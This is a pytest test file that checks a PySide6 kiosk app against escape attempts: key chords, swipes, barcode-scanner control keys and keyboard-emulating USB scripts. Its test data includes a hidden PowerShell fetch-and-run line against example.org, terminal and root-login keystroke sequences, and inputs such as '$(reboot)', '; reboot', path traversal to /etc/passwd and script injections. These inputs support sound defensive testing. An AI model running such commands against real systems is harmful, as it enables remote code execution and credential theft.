# SPDX-License-Identifier: Apache-2.0
"""Every way out that is known, in every kind of scene: nothing happens, and the journal hears of it.

What a compositor or the kernel keeps for itself never comes to a window: `test_server.py` shows some
of it, `packaging/lockdown` and `docs/guides/commissioning.md` the rest.
"""

import ast
import re
import tomllib
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import timedelta
from threading import Event

import pytest
from PySide6.QtCore import QCoreApplication, QEvent, QPoint, Qt
from PySide6.QtGui import QClipboard, QGuiApplication, QKeyEvent
from PySide6.QtQml import QQmlExpression, qmlContext
from PySide6.QtQuick import QQuickItem
from PySide6.QtTest import QTest

from kiosk.attempts import CALM_SECONDS, EVENT, Attempt, Attempts
from kiosk.readers import Readers, WedgeReader
from tests.gate.attacking import (
    attacked,
    chords,
    escapes,
    state,
    strike,
    surroundings,
    write_a_name,
)
from tests.gate.scenes import scenes
from ui.viewmodels.receipt import ReceiptViewModel
from ui.viewmodels.shell import ShellViewModel

Screen = ShellViewModel.Screen
Key, Held = Qt.Key, Qt.KeyboardModifier
PATIENCE = 30.0
"""Seconds in which a test that has failed lets a worker go."""


@pytest.fixture
def board():
    """Something that somebody else has copied."""
    clipboard = QGuiApplication.clipboard()
    clipboard.setText("PASTED")
    if clipboard.supportsSelection():
        clipboard.setText("PASTED", QClipboard.Mode.Selection)
    yield
    clipboard.clear()


NOTED = Counter()
"""What was noted in this test, written down already or not."""


@pytest.fixture(autouse=True)
def _noted(monkeypatch):
    note = Attempts.note

    def listened(self, attempt):
        NOTED[attempt] += 1
        note(self, attempt)

    NOTED.clear()
    monkeypatch.setattr(Attempts, "note", listened)


def counted() -> int:
    """How many keys were taken for attempts."""
    return NOTED[Attempt.KEYS]


def pressed(kiosk) -> list[str]:
    """Press every chord; name those that did anything, or were not counted as they should be."""
    found = []
    for one in chords():
        before = counted()
        found += attacked(kiosk, [(one.id, lambda one=one: strike(kiosk, one.keys))])
        if (counted() > before) != one.counted:
            found.append(f"{one.id} counted {counted() - before}")
    return found


def to_the_check(kiosk) -> None:
    """Answer everything, without a tap."""
    answers = kiosk.sample(0)
    while kiosk.screen == Screen.Question:
        kiosk.give(answers, kiosk.put)
        kiosk.flow.question.goOn()
        kiosk.person.settle()
    kiosk.wait_for(Screen.Check)


@contextmanager
def held_up(kiosk) -> Iterator[tuple[Event, Event]]:
    """Have the worker wait while it sends, and while it prints, until it is let go."""
    sends, prints = Event(), Event()
    desk, put = kiosk.sitting_desk, kiosk.printer.print

    def receipt(*given):
        sends.wait(PATIENCE)
        return desk.receipt(*given)

    def printed(job):
        prints.wait(PATIENCE)
        return put(job)

    kiosk.flow._handover.open(replace(desk, receipt=receipt))
    kiosk.printer.print = printed
    try:
        yield sends, prints
    finally:
        sends.set()
        prints.set()


def every_scene(kiosk) -> Iterator[str]:
    """Walk to every kind of scene, and name it while it stands."""
    flow = kiosk.flow
    flow._timer.stop()  # nothing is written down between, and nobody is away
    yield "attract"
    kiosk.begin("en")
    yield "form"
    flow.leaving.end()
    kiosk.person.settle()
    write_a_name(kiosk)
    kiosk.person.tap("input", "field-surname")
    kiosk.person.settle()
    assert any(name.startswith("key-") for name in kiosk.person.names())
    yield "keyboard"
    flow.shell.finish()
    kiosk.person.settle()
    yield "dialog"
    flow.leaving.end()
    kiosk.person.settle()
    kiosk.begin("en")
    to_the_check(kiosk)
    with held_up(kiosk) as (sends, prints):
        flow.check.agree(flow.check._declarations.rows[0].ref, True)
        flow.check.send()
        kiosk.wait_for(Screen.Sending)
        yield "sending"
        sends.set()
        kiosk.wait_for(Screen.Receipt)
        assert flow.receipt.printing == ReceiptViewModel.Printing.Working
        yield "printing"
        prints.set()
        kiosk.person.wait(
            lambda: flow.receipt.printing == ReceiptViewModel.Printing.Done, "the paper"
        )
    flow.stop("storage.failed")
    kiosk.person.settle()
    yield "out of order"


@pytest.mark.usefixtures("board")
def test_no_chord_does_anything_in_any_scene(kiosk):
    kiosk.sitting_desk = kiosk.desk
    seen = {}
    for scene in every_scene(kiosk):
        before = kiosk.window
        assert pressed(kiosk) == [], scene
        assert kiosk.window is before
        seen[scene] = len(chords())
    assert seen.keys() == {
        "attract",
        "form",
        "keyboard",
        "dialog",
        "sending",
        "printing",
        "out of order",
    }
    assert sum(seen.values()) >= 360


@pytest.mark.usefixtures("board")
def test_without_the_filter_some_of_them_would(kiosk):
    write_a_name(kiosk)
    kiosk.flow._activity.release()
    found = set(pressed(kiosk))
    assert "window-menu" in found, found  # a blank is written
    assert "quit counted 0" in found


def records(kiosk) -> list[dict[str, str]]:
    return [dict(one.facts) for one in kiosk.station.store.journal.records() if one.event == EVENT]


def tick(kiosk, clock, seconds: float) -> None:
    """Let time pass, a second at a time, as the clockwork does."""
    for _second in range(int(seconds)):
        clock.advance(timedelta(seconds=1))
        kiosk.flow._escapes.tick()
    kiosk.person.settle()


def test_a_flood_of_chords_is_a_record_a_minute(kiosk, clock):
    kiosk.flow._timer.stop()
    minutes, each = 4, 50
    for _minute in range(minutes):
        for _chord in range(each):
            strike(kiosk, "Ctrl+Q")
        tick(kiosk, clock, CALM_SECONDS)
    tick(kiosk, clock, 2 * CALM_SECONDS)
    kiosk.person.wait(lambda: sum(int(one["keys"]) for one in records(kiosk)) == 200, "the records")
    assert len(records(kiosk)) <= minutes + 1
    assert {tuple(one) for one in records(kiosk)} == {("closing", "keys", "pointer")}


def test_an_officer_s_desk_counts_nothing(run_kiosk, clock):
    with run_kiosk(place="desk") as kiosk:
        strike(kiosk, "Ctrl+C")
        tick(kiosk, clock, 2)
        assert records(kiosk) == []


def test_keys_that_are_held_or_repeated_do_nothing(kiosk):
    write_a_name(kiosk)
    before = state(kiosk)
    for key, times in ((Key.Key_Shift, 5), (Key.Key_CapsLock, 6), (Key.Key_NumLock, 6)):
        for _time in range(times):
            QTest.keyClick(kiosk.window, key)
    for key in (Key.Key_Shift, Key.Key_NumLock, Key.Key_Tab, Key.Key_F1, Key.Key_Q):
        held = Held.ControlModifier if key == Key.Key_Q else Held.NoModifier
        event = QKeyEvent(QEvent.Type.KeyPress, key, held, "", True)
        for _repeat in range(240):  # eight seconds, as fast as keyboards repeat
            QCoreApplication.sendEvent(kiosk.window, event)
    assert state(kiosk) == before
    assert counted() == 0
    event = QKeyEvent(QEvent.Type.KeyPress, Key.Key_A, Held.NoModifier, "a")
    QCoreApplication.sendEvent(kiosk.window, event)
    assert state(kiosk) != before, "what is typed would be seen"


# Fingers.

LEFT, RIGHT, TOP, BOTTOM = QPoint(0, 960), QPoint(1079, 960), QPoint(540, 0), QPoint(540, 1919)


def swipe(kiosk, fingers: int, begin: QPoint, end: QPoint) -> None:
    """Draw some fingers over the screen, side by side."""
    touch = QTest.touchEvent(kiosk.window, kiosk.touch_screen)
    aside = QPoint(0, 40) if begin.y() == end.y() else QPoint(40, 0)
    for step in range(9):
        at = begin + (end - begin) * step / 8
        for finger in range(fingers):
            place = at + aside * finger
            if step == 0:
                touch.press(finger, place, kiosk.window)
            else:
                touch.move(finger, place, kiosk.window)
        touch.commit()
    for finger in range(fingers):
        touch.release(finger, end + aside * finger, kiosk.window)
    touch.commit()


def drag(kiosk, begin: QPoint, end: QPoint) -> None:
    """Press, draw out of the window and let go there."""
    button, none = Qt.MouseButton.LeftButton, Held.NoModifier
    QTest.mousePress(kiosk.window, button, none, begin)
    for step in range(1, 9):
        QTest.mouseMove(kiosk.window, begin + (end - begin) * step / 8)
    QTest.mouseRelease(kiosk.window, button, none, end)


def fingers(kiosk) -> Iterator[tuple[str, object]]:
    """Everything that fingers do on other machines."""
    edges = {"left": LEFT, "right": RIGHT, "top": TOP, "bottom": BOTTOM}
    opposite = {"left": "right", "right": "left", "top": "bottom", "bottom": "top"}
    for number in (1, 2, 3, 4, 5):
        for edge, begin in edges.items():
            end = edges[opposite[edge]]
            yield (
                f"{number} from the {edge}",
                lambda n=number, b=begin, e=end: swipe(kiosk, n, b, e),
            )
    for name in ("input", "title"):
        item = kiosk.person.find(name)
        if item is not None:
            place = kiosk.person._middle(item)
            yield f"{name} dragged out", lambda at=place: drag(kiosk, at, QPoint(-200, -200))
    yield (
        "a double touch at the top",
        lambda: QTest.mouseDClick(
            kiosk.window, Qt.MouseButton.LeftButton, Held.NoModifier, QPoint(540, 3)
        ),
    )


def test_fingers_lead_nowhere(kiosk):
    kiosk.touch_screen = QTest.createTouchDevice()
    assert attacked(kiosk, fingers(kiosk)) == []
    write_a_name(kiosk)
    assert attacked(kiosk, fingers(kiosk)) == []
    back = kiosk.person._middle(kiosk.person.find("back"))
    assert attacked(kiosk, [("a touch", lambda: kiosk.touch(back.x(), back.y()))]) == ["a touch"]


# Devices.

ADDRESSES = (
    "http://example.org/",
    "https://example.org/a?b=c",
    "HTTPS://EXAMPLE.ORG",
    "file:///etc/passwd",
    "mailto:a@example.org",
    "tel:+994000000000",
    "intent://scan/#Intent;scheme=zxing;end",
    "ms-settings:network",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "WIFI:T:WPA;S:open;P:password;;",
    "BEGIN:VCARD\nVERSION:3.0\nN:A\nEND:VCARD",
    "smb://host/share",
    "\\\\host\\share",
    "qrc:/Kiosk/Main.qml",
    "image://icons/finish",
    "<a href='http://example.org'>x</a>",
    "<img src=http://example.org/x.png>",
    "../../../etc/passwd",
    "; reboot",
    "$(reboot)",
    "%s%s%n",
    "\x00\x01\x1b[2J",
)


def test_a_code_with_an_address_is_no_code(run_kiosk):
    from kiosk.readers.fakes import MemoryBarcodeReader

    reader = MemoryBarcodeReader()
    with run_kiosk(readers=Readers(barcode=reader)) as kiosk:
        told = {text: kiosk.desk.understand(text) for text in ADDRESSES}
        assert {text: one.problem for text, one in told.items()} == dict.fromkeys(
            ADDRESSES, "code.unknown"
        )
        kiosk.person.tap("language-en")
        kiosk.wait_for(Screen.Services)
        before = surroundings(kiosk)
        code = kiosk.flow.screens.code
        for text in ADDRESSES[:4]:
            kiosk.person.wait(lambda: reader.is_listening, "the reader to be heard")
            reader.hold(text)
            kiosk.wait_for(Screen.Code)
            kiosk.person.wait(lambda: code.state == code.State.Trouble, "a refusal")
            assert surroundings(kiosk) == before
            assert text not in shown(kiosk.window.contentItem())
            kiosk.flow.showing.go_back()
            kiosk.wait_for(Screen.Services)


SCRIPTS = (
    "Meta+R|cmd|Return",
    "Meta+R|powershell -w hidden iex(iwr example.org/x)|Return",
    "Ctrl+Alt+T|xterm|Return",
    "Ctrl+Alt+F2|root|Return|root|Return",
    "Alt+F2|gnome-terminal|Return",
    "Meta+Space|terminal|Return",
    "Meta|notepad|Return",
    "Ctrl+Escape|cmd|Ctrl+Shift+Return",
)


def type_as_a_stick(kiosk, script: str) -> None:
    """Type what a stick types that plays a keyboard, without a pause."""
    for line in script.split("|"):
        if "+" in line or line in {"Return", "Meta"}:
            strike(kiosk, line)
        else:
            for one in line:
                QTest.keyClick(kiosk.window, one)
    kiosk.application.processEvents()


def test_a_stick_that_types_runs_nothing(kiosk):
    """It writes into a field, as any keyboard does; no program starts and no window comes."""
    before = surroundings(kiosk)
    children = set(children_of_this())
    for script in SCRIPTS:
        type_as_a_stick(kiosk, script)
        assert surroundings(kiosk) == before, script
    kiosk.flow.leaving.end()
    kiosk.person.settle()
    write_a_name(kiosk)
    for script in SCRIPTS:
        type_as_a_stick(kiosk, script)
        assert surroundings(kiosk) == before, script
    assert set(children_of_this()) <= children
    assert counted() >= len(SCRIPTS)


def children_of_this() -> list[str]:
    """Name the processes that this one has started."""
    from pathlib import Path

    return [
        child
        for file in Path("/proc/self/task").glob("*/children")
        for child in file.read_text(encoding="ascii").split()
    ]


CONTROLS = ("Ctrl+O", "Ctrl+P", "Ctrl+N", "Ctrl+W", "Ctrl+T", "Alt+F4", "F11", "Escape")
"""What readers type for the control characters of a bar code, one after the other."""


def test_what_a_scanner_types_as_chords_is_swallowed(run_kiosk, clock):
    with run_kiosk(readers=Readers(barcode=WedgeReader(clock))) as kiosk:
        write_a_name(kiosk)
        clock.advance(timedelta(seconds=1))
        kiosk.person.settle()
        before = state(kiosk)
        for keys in CONTROLS:
            strike(kiosk, keys)
            QTest.keyClick(kiosk.window, Key.Key_J, Held.ControlModifier)
        clock.advance(timedelta(seconds=1))
        kiosk.person.settle()
        kiosk.person.wait(lambda: not kiosk.flow._activity._wedge._reader.is_holding, "its end")
        assert state(kiosk) == before


# What is shown.


def texts(item: QQuickItem) -> Iterator[QQuickItem]:
    """Give everything below an item that draws text."""
    if item.inherits("QQuickText") or item.inherits("QQuickTextEdit"):
        yield item
    for child in item.childItems():
        yield from texts(child)


def shown(item: QQuickItem) -> str:
    return "\n".join(str(one.property("text")) for one in texts(item) if one.isVisible())


def rich(item: QQuickItem) -> list[str]:
    """Name the texts below an item that would read markup."""
    return [
        f"{one.objectName()} {str(one.property('text'))[:40]}"
        for one in texts(item)
        if QQmlExpression(qmlContext(one), one, "textFormat").evaluate()[0]
        != Qt.TextFormat.PlainText.value
    ]


def test_every_text_that_is_shown_is_plain(kiosk):
    seen = 0
    for scene in scenes(kiosk, "en"):
        kiosk.application.processEvents()
        found = list(texts(kiosk.window.contentItem()))
        assert rich(kiosk.window.contentItem()) == [], scene
        seen += len(found)
    assert seen > 1000
    QQmlExpression(qmlContext(found[0]), found[0], "textFormat = Text.RichText").evaluate()
    assert len(rich(kiosk.window.contentItem())) == 1


# The list itself.

PROOF = re.compile(r"(?P<kind>test|rule|windows|check):(?P<what>\S+)")


def named(root, file: str) -> set[str]:
    """Name the tests of a file."""
    tree = ast.parse((root / file).read_text(encoding="utf-8"))
    return {node.name for node in ast.walk(tree) if isinstance(node, ast.FunctionDef)}


def rules(root, system: str) -> set[str]:
    """Name the rules that are checked on a machine."""
    file = root / "packaging" / system / "rules.toml"
    return {one["id"] for one in tomllib.loads(file.read_text(encoding="utf-8"))["rule"]}


def unproven(root, proofs) -> list[str]:
    """Name the proofs that are not there."""
    anchors = set(
        re.findall(
            r'<a id="([\w-]+)"', (root / "docs/guides/commissioning.md").read_text(encoding="utf-8")
        )
    )
    known = {
        "rule": rules(root, "lockdown"),
        "windows": rules(root, "windows"),
        "check": anchors,
    }
    missing = []
    for proof in proofs:
        match = PROOF.fullmatch(proof)
        assert match is not None, proof
        kind, what = match["kind"], match["what"]
        if kind == "test":
            file, _, name = what.partition("::")
            is_there = (root / file).is_file() and (not name or name in named(root, file))
        else:
            is_there = what in known[kind]
        if not is_there:
            missing.append(proof)
    return missing


def test_every_way_out_is_held_somewhere(root):
    found = escapes()
    assert len({one.id for one in found}) == len(found) > 90
    assert [one.id for one in found if not one.keys and not one.proof] == []
    assert unproven(root, sorted({proof for one in found for proof in one.proof})) == []
    wrong = ["test:tests/gate/test_escapes.py::test_none", "rule:none", "windows:none", "check:no"]
    assert unproven(root, wrong) == wrong
